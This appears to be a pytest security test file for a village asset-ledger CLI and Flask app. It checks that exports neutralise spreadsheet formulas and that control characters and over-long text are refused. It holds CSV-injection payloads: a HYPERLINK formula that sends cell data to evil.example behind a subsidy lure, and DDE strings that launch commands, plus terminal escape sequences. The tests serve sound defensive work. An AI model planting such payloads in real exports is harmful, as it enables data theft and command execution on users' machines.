"""Exports that would attack their reader, and the text that makes them: replayed through the real CLI and the Flask
test client on SQLite and PostgreSQL. Formula text is neutralised in every CSV (numbers stay numbers); control
characters and over-long text are refused at every door with a finding naming where, the same on both databases,
in dry runs too, and nothing changes; text stored before these rules is shown escaped and never breaks an export.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path

from flask import Flask
from openpyxl import load_workbook

from assetledger.store.db import Database
from tests.conftest import Cli
from tests.helpers import ASSET_HEADER, REGIONS, asset_row, write_csv
from tests.security.conftest import record
from tests.web.conftest import VILLAGE, login

FORMULAS = {
    "F-1": '=HYPERLINK("http://evil.example/?d="&A1,"点此领取补贴")',
    "F-2": "+cmd|' /C calc'!A0",
    "F-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F-4": "-2+3+cmd|' /C calc'!A0",
}
ENTRY_HEADER = ["日期", "资产编号", "收支", "类型", "金额", "摘要", "凭证号"]
ROSTER_HEADER = ["户编号", "村", "户主", "人口", "类别", "因素", "纳入日期", "退出日期", "退出原因"]
ESC, NUL, CSI = "\x1b", "\x00", "\x9b"  # ESC and the C1 CSI start terminal control sequences


def _county(run: Cli) -> None:
    run("region", "import", str(write_csv(run.cwd / "regions.csv", REGIONS)))
    rows: list[Sequence[object]] = [ASSET_HEADER, asset_row("A-1")]
    rows += [asset_row(asset_id, 资产名称=name) for asset_id, name in FORMULAS.items()]
    run("asset", "import", str(write_csv(run.cwd / "assets.csv", rows)))


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_exports_neutralise_formulas_and_keep_numbers(run: Cli, db: Database) -> None:
    _county(run)
    listed = {r["asset_id"]: r for r in _csv(run("asset", "list", "--format", "csv").output)}
    for asset_id, name in FORMULAS.items():
        assert listed[asset_id]["name"] == "'" + name  # shown as text by a spreadsheet, never run
        assert listed[asset_id]["original_value"] == "100000.00"  # an amount stays a number
    assert listed["A-1"]["name"] == "村组道路"
    query = "SELECT asset_id, name, -original_value_fen AS minus FROM v_assets ORDER BY asset_id"
    audited = {r["asset_id"]: r for r in _csv(run("audit", "sql", query, "--format", "csv").output)}
    assert audited["F-1"]["name"] == "'" + FORMULAS["F-1"] and audited["F-4"]["name"] == "'" + FORMULAS["F-4"]
    assert audited["F-1"]["minus"] == "-10000000"  # a negative number is data, not a formula
    run("asset", "list", "--format", "csv", "--out", "list.csv")
    assert (run.cwd / "list.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # Excel opens it as UTF-8
    saved = {r["asset_id"]: r for r in _csv((run.cwd / "list.csv").read_text(encoding="utf-8-sig"))}
    assert saved["F-3"]["name"] == "'" + FORMULAS["F-3"]
    run("asset", "list", "--format", "xlsx", "--out", "list.xlsx")
    sheet = load_workbook(run.cwd / "list.xlsx").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert {FORMULAS["F-1"], FORMULAS["F-4"]} <= {c.value for c in cells}  # the text itself, as text


def _refused(run: Cli, db: Database, args: Sequence[str], *expected: str, user: str = "tester") -> None:
    before = record(db)
    result = run(*args, ok=False, user=user)
    assert result.exit_code == 2, (args, result.output)
    for fragment in expected:
        assert fragment in result.output, (args, fragment, result.output)
    assert ESC not in result.output and CSI not in result.output  # quoted as escapes, never replayed
    assert record(db) == before, args


def test_control_characters_in_files_are_refused_with_row_and_column(run: Cli, db: Database) -> None:
    _county(run)
    assets = write_csv(run.cwd / "bad-assets.csv", [
        ASSET_HEADER,
        asset_row("B-1", 资产名称=f"冷库{ESC}[2J{ESC}]0;已核销{chr(7)}"),
        asset_row("B-2", 管护主体=f"张{NUL}三"),
        asset_row("B-3", 项目名称="第一行\n第二行"),
        asset_row("B-4", 单位=f"座{CSI}31m"),
        asset_row("B-5", 确权主体="红旗村\u202e社作合济经"),  # displays reversed
        asset_row("B-6"),  # a good row: not blamed, not written
    ])  # fmt: skip
    expected = (
        "第2行 (row 2)，列「资产名称 (asset name)」 (column)，值「冷库\\x1b[2J\\x1b]0;已核销\\x07」 (value)"
        "：含有控制字符 U+001B ESC，",
        "(contains the control character U+001B ESC",
        "第3行 (row 3)，列「管护主体 (custodian)」 (column)，值「张\\x00三」 (value)"
        "：含有控制字符 U+0000 NUL，只能写可打印的字符 "
        "(contains the control character U+0000 NUL",
        "第4行 (row 4)，列「项目名称 (project)」 (column)，值「第一行\\n第二行」 (value)"
        "：含有换行或制表符 U+000A LF，此栏只能写一行 "
        "(contains a line break or tab (U+000A LF)",
        "第5行 (row 5)，列「单位 (unit)」 (column)，值「座\\x9b31m」 (value)"
        "：含有控制字符 U+009B CSI，只能写可打印的字符 "
        "(contains the control character U+009B CSI",
        "第6行 (row 6)，列「确权主体 (owner)」 (column)，值「红旗村\\u202e社作合济经」 (value)"
        "：含有改变文字显示方向的控制字符 U+202E",
        "(contains a direction override (U+202E)",
        "5 problem(s)",
    )
    _refused(run, db, ["asset", "import", str(assets), "--dry-run"], *expected)
    _refused(run, db, ["asset", "import", str(assets)], *expected)

    entries = write_csv(run.cwd / "bad-entries.csv", [
        ENTRY_HEADER,
        ["2025-03-01", "A-1", "收入", "租金", "100", f"租金{ESC}[8m", "PZ-1"],
        ["2025-03-02", "A-1", "收入", "租金", "100", "租金\r\n补记", "PZ-2"],
        ["2025-03-03", "A-1", "收入", "租金", "100", "租金", f"PZ{NUL}3"],
    ])  # fmt: skip
    for dry in ([], ["--dry-run"]):
        _refused(run, db, ["ledger", "import-entries", str(entries), *dry],
                 "第2行 (row 2)，列「摘要」 (column)，值「租金\\x1b[8m」 (value)",
                 "第3行 (row 3)，列「摘要」 (column)，值「租金\\r\\n补记」 (value)",
                 "第4行 (row 4)，列「凭证号」 (column)，值「PZ\\x003」 (value)")  # fmt: skip

    roster = write_csv(run.cwd / "bad-roster.csv", [
        ROSTER_HEADER,
        ["H1", VILLAGE, f"王{ESC}[1A一", "3", "脱贫户", "", "2024-01-01", "", ""],
        [f"H{CSI}2", VILLAGE, "王二", "2", "监测户", "", "2024-01-01", "", ""],
    ])  # fmt: skip
    for dry in ([], ["--dry-run"]):
        _refused(run, db, ["beneficiary", "import", str(roster), *dry],
                 "第2行 (row 2)，列「户主」 (column)，值「王\\x1b[1A一」 (value)",
                 "第3行 (row 3)，列「户编号」 (column)，值「H\\x9b2」 (value)")  # fmt: skip

    regions = write_csv(run.cwd / "bad-regions.csv", [REGIONS[0], ["示范县", "360921", "东风镇", "360921101",
                                                                   f"新村{ESC}[0m", "360921101299"]])  # fmt: skip
    _refused(
        run, db, ["region", "import", str(regions)], "第2行 (row 2)，列「村」 (column)，值「新村\\x1b[0m」 (value)"
    )


def test_control_characters_in_single_values_are_refused(run: Cli, db: Database) -> None:
    _county(run)
    register = ["asset", "register", "--id", "R-1", "--register", "public-benefit", "--region", VILLAGE,
                "--value", "1000", "--fund", "central=1000"]  # fmt: skip
    _refused(
        run,
        db,
        [*register, "--name", f"水渠{ESC}[2J"],
        "asset register，列「资产名称 asset name」 (column)，值「水渠\\x1b[2J」 (value)",
    )
    _refused(run, db, ["asset", "custodian", "A-1", "--name", "李四", "--from", "2025-01-01", "--duties", f"巡查{NUL}"],
             "列「管护责任 custodian's duties」 (column)，值「巡查\\x00」 (value)")  # fmt: skip
    _refused(run, db, ["asset", "confirm", "A-1", "--owner", f"红旗村{CSI}", "--owner-kind", "village",
                       "--date", "2025-01-01"], "列「确权主体 owner」 (column)，值「红旗村\\x9b」 (value)")  # fmt: skip
    _refused(run, db, ["asset", "status", "A-1", "idle", "--date", "2025-03-01", "--reason", f"停产{ESC}c"],
             "asset status，列「--reason」 (column)，值「停产\\x1bc」 (value)")  # fmt: skip
    post = ["ledger", "post", "--asset", "A-1", "--revenue", "rent", "--amount", "100", "--date", "2025-03-01"]
    _refused(
        run,
        db,
        [*post, "--narration", f"租金{ESC}[31m"],
        "ledger post，列「narration」 (column)，值「租金\\x1b[31m」 (value)",
    )
    _refused(
        run,
        db,
        [*post, "--narration", "一行\n两行"],
        "列「narration」 (column)，值「一行\\n两行」 (value)",
        "holds one line",
    )
    _refused(run, db, [*post, "--ref", f"PZ{NUL}"], "ledger post，列「ref」 (column)，值「PZ\\x00」 (value)")
    _refused(run, db, ["beneficiary", "add", "--id", "H9", "--village", VILLAGE, "--head", f"王{ESC}[8m",
                       "--persons", "2", "--category", "脱贫户", "--joined", "2024-01-01"],
             "beneficiary add，列「head」 (column)，值「王\\x1b[8m」 (value)")  # fmt: skip
    _refused(run, db, ["asset", "status", "A-1", "idle", "--date", "2025-03-01"], "--user，列「user」 (column)",
             user=f"admin{ESC}]0;root{chr(7)}")  # fmt: skip
    _refused(run, db, ["user", "add", f"zhang{ESC}[8m", "--role", "finance", "--scope", "360921"],
             "user add，列「name」 (column)")  # fmt: skip
    # Several lines are fine where a field is free text: duties keep their line break.
    run("asset", "custodian", "A-1", "--name", "李四", "--from", "2025-01-01", "--duties", "巡查\n清扫")
    assert "巡查\\n清扫" in run("asset", "show", "A-1").output  # shown on one line, as an escape


def test_over_long_text_is_the_same_finding_on_both_databases(run: Cli, db: Database) -> None:
    _county(run)
    post = ["ledger", "post", "--asset", "A-1", "--revenue", "rent", "--amount", "100", "--date", "2025-03-01"]
    _refused(run, db, [*post, "--ref", "R" * 201],
             f"ledger post，列「ref」 (column)，值「{'R' * 60}…」 (value)：超过该栏最多 200 个字（现有 201 个） "
             "(longer than 200 characters, the most this column "
             "holds (it has 201)")  # fmt: skip
    _refused(run, db, [*post, "--narration", "租" * 2001],
             "列「narration」 (column)，值「" + "租" * 60 + "…」 (value)：超过该栏最多 2000 个字")  # fmt: skip
    _refused(run, db, ["beneficiary", "add", "--id", "H9", "--village", VILLAGE, "--head", "王" * 101,
                       "--persons", "2", "--category", "脱贫户", "--joined", "2024-01-01"],
             "列「head」 (column)，值「" + "王" * 60 + "…」 (value)：超过该栏最多 100 个字")  # fmt: skip
    _refused(run, db, ["asset", "dispose", "A-1", "--method", "auction", "--date", "2026-01-20", "--proceeds", "1",
                       "--approval", "批" * 201, "--approved-by", "county"],
             "asset dispose，列「--approval」 (column)，值「" + "批" * 60
             + "…」 (value)：超过该栏最多 200 个字")  # fmt: skip
    entries = write_csv(run.cwd / "long.csv", [ENTRY_HEADER, ["2025-03-01", "A-1", "收入", "租金", "1", "租金",
                                                              "P" * 201]])  # fmt: skip
    _refused(run, db, ["ledger", "import-entries", str(entries), "--dry-run"],
             "long.csv，第2行 (row 2)，列「凭证号」 (column)，值「" + "P" * 60
             + "…」 (value)：超过该栏最多 200 个字")  # fmt: skip
    # A path no parser words: the guard under every INSERT refuses it alike on both databases.
    account = "Assets:" + "A" * 250
    ledger = run.cwd / "long.beancount"
    ledger.write_text(f'2025-01-01 open {account} CNY\n2025-01-01 open Income:Other CNY\n'
                      f'2025-03-02 * "租金"\n  {account}  100 CNY\n  Income:Other  -100 CNY\n',
                      encoding="utf-8")  # fmt: skip
    _refused(run, db, ["ledger", "import", str(ledger), "--entity", f"V{VILLAGE}"],
             "accounts，列「name」 (column)，值「Assets:AAAA", "longer than 200 characters")  # fmt: skip
    # A cell beyond what the csv module reads at all: a finding, not _csv.Error.
    huge = write_csv(run.cwd / "huge.csv", [ASSET_HEADER, asset_row("X-1", 资产名称="长" * 140_000)])
    _refused(run, db, ["asset", "import", str(huge)], "huge.csv，第2行 (row 2)：a cell longer than 131,072 characters")


def test_text_stored_before_the_rules_is_shown_escaped_and_never_breaks_an_export(run: Cli, db: Database) -> None:
    _county(run)
    legacy = f"冷库{ESC}[31m红{chr(7)}{CSI}2J"  # as an older version stored it (PostgreSQL never stores NUL)
    with db.engine.begin() as conn:  # driver SQL, as a hand-typed fix would: past every check
        conn.exec_driver_sql(
            "UPDATE assets SET name = " + ("?" if db.is_sqlite else "%s") + " WHERE asset_id = 'A-1'", (legacy,)
        )
    shown = "冷库\\x1b[31m红\\x07\\x9b2J"
    for args in (["asset", "list"], ["asset", "show", "A-1"], ["asset", "list", "--format", "csv"]):
        out = run(*args).output
        assert shown in out and ESC not in out and CSI not in out, args
    listed = run("asset", "list", "--format", "json").output
    assert ESC not in listed and CSI not in listed
    assert {r["asset_id"]: r["name"] for r in json.loads(listed)}["A-1"] == legacy  # the same data, escaped
    run("asset", "list", "--format", "xlsx", "--out", "list.xlsx")  # openpyxl refuses control characters
    sheet = load_workbook(run.cwd / "list.xlsx").active
    assert sheet is not None and shown in {c.value for row in sheet.iter_rows() for c in row}
    out = run("audit", "export", "--out", "package").output
    assert "registers.xlsx" in out or (run.cwd / "package" / "registers.xlsx").exists(), out


def test_the_web_refuses_control_characters_and_huge_cells(app: Flask, db: Database, tmp_path: Path) -> None:
    li, token = login(app, "li")
    before = record(db)
    form = {"asset_id": "A-1", "direction": "revenue", "type": "rent", "amount": "100", "date": "2025-05-01",
            "narration": f"租金{ESC}[2J", "ref": "", "csrf_token": token}  # fmt: skip
    refused = li.post("/post", data=form)
    assert refused.status_code == 422, refused.text[:500]
    assert "租金\\x1b[2J" in refused.text and ESC not in refused.text
    assert record(db) == before
    zhang, token = login(app, "zhang")
    for name, cell, expected in (
        ("bad.csv", f"冷库{ESC}[2J", ("冷库\\x1b[2J", "U+001B ESC")),
        ("huge.csv", "长" * 140_000, ("a cell longer than 131,072 characters",)),
    ):
        path = write_csv(tmp_path / name, [ASSET_HEADER, asset_row("W-1", 资产名称=cell)])
        with path.open("rb") as fh:
            answer = zhang.post("/upload", data={"file": (fh, name), "csrf_token": token},
                                content_type="multipart/form-data")  # fmt: skip
        assert answer.status_code == 422, (name, answer.status_code)  # a page naming the problem, never a 500
        assert ESC not in answer.text and name in answer.text
        assert all(fragment in answer.text for fragment in expected), (name, answer.text[-2000:])
    # A NUL looked up (PostgreSQL cannot even take it as a parameter): the same refusal on both databases, a bad
    # request (400) since it is asked for in the address.
    for page in ("/assets/A-1%00", "/assets?region=3609%00"):
        answer = zhang.get(page)
        assert answer.status_code == 400 and "U+0000 NUL" in answer.text, (page, answer.status_code)
    assert record(db) == before


def test_a_nul_looked_up_from_the_command_line_is_refused_alike(run: Cli, db: Database) -> None:
    _county(run)
    _refused(run, db, ["asset", "show", "A-1\x00"], "U+0000 NUL")
    _refused(run, db, ["ledger", "reverse", "1", "--reason", "重复\x00录入"], "U+0000 NUL")
